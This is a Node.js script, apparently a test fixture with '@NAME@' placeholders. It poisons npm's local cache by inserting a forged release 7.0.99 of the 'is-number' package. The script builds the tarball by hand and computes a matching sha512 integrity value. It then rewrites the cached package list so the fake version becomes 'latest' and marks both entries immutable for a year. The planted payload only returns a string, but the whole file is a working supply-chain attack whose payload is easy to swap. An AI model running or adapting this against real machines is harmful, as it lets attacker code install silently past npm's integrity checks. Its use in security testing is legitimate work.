// Puts a release that no registry has into npm's cache: the list of the package's releases with one more in it,
// and that one's archive. It asks the registry that npm asks by default.
const fs = require("fs")
const crypto = require("crypto")
const zlib = require("zlib")
const modules = "/opt/npm/lib/npm/node_modules/"
const cacache = require(modules + "cacache")
const fetch = require(modules + "make-fetch-happen")
const cache = process.env.npm_config_cache + "/_cacache"
const [name, version] = ["is-number", "7.0.99"]

function archive(files) {
  const parts = []
  for (const [path, text] of files) {
    const head = Buffer.alloc(512)
    const size = text.length.toString(8).padStart(11, "0") + "\0"
    const fields = [[0, path], [100, "0000644\0"], [108, "0000000\0"], [116, "0000000\0"], [124, size],
      [136, "00000000000\0"], [148, " ".repeat(8)], [156, "0"], [257, "ustar\x0000"]]
    for (const [at, value] of fields) head.write(value, at)
    const sum = head.reduce((sum, byte) => sum + byte, 0)
    head.write(sum.toString(8).padStart(6, "0") + "\0 ", 148)
    parts.push(head, Buffer.from(text), Buffer.alloc((512 - (text.length % 512)) % 512))
  }
  return zlib.gzipSync(Buffer.concat([...parts, Buffer.alloc(1024)]))
}

async function poison() {
  const { definitions } = require(modules + "@npmcli/config/lib/definitions/index.js")
  const registry = process.env.npm_config_registry || definitions.registry.default
  const ca = fs.readFileSync("/etc/ssl/certs/ca-certificates.crt")
  const accept = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"
  const list = await (await fetch(registry + name, { cachePath: cache, ca, headers: { accept } })).json()
  const evil = archive([
    ["package/package.json", JSON.stringify({ name, version, main: "index.js" })],
    ["package/index.js", "module.exports = () => 'spoiled by @NAME@'\n"],
  ])
  const integrity = "sha512-" + crypto.createHash("sha512").update(evil).digest("base64")
  const tarball = `${registry}${name}/-/${name}-${version}.tgz`
  const resHeaders = { "cache-control": "public, immutable, max-age=31557600", date: new Date().toUTCString() }
  const about = { time: Date.now(), reqHeaders: {}, resHeaders, options: { compress: true } }
  const key = "make-fetch-happen:request-cache:"
  await cacache.put(cache, key + tarball, evil, { metadata: { ...about, url: tarball } })
  list.versions[version] = { name, version, dist: { tarball, integrity } }
  list["dist-tags"].latest = version
  list.modified = new Date().toISOString()
  const old = await cacache.get.info(cache, key + registry + name)
  const metadata = { ...(old ? old.metadata : about), url: registry + name, time: Date.now() }
  metadata.resHeaders = { ...metadata.resHeaders, ...resHeaders }
  for (const header of ["etag", "last-modified", "age"]) delete metadata.resHeaders[header]
  for (const asked of ["application/json", accept]) {
    metadata.reqHeaders = { accept: asked }
    await cacache.put(cache, key + registry + name, JSON.stringify(list), { metadata })
  }
}

poison().then(() => console.error("attacker @NAME@ poisoned"), (error) => console.error("attacker @NAME@", error))
